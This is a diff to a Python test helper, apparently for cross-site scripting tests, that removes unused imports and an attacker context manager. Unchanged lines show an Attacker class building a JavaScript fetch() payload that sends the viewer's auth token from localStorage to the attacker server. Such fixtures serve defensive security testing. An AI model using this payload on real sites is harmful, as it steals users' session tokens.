@@ -1,8 +1,6 @@
 """Texts that do harm, or are not shown, where a page takes them for HTML; and the attacker who waits."""
 
 import threading
-from collections.abc import Iterator
-from contextlib import contextmanager
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 
@@ -39,15 +37,6 @@ class Attacker:
         """A script that sends the token of whoever looks at it."""
         token = 'parent.localStorage.getItem("auth._token.local")'
         return f'fetch("{self.url}/{name}?t="+{token},{{mode:"no-cors"}})'
-
-
-@contextmanager
-def attacker() -> Iterator[Attacker]:
-    attacker = Attacker()
-    try:
-        yield attacker
-    finally:
-        attacker.close()
 
 
 def thieves(attacker: Attacker) -> list[str]:
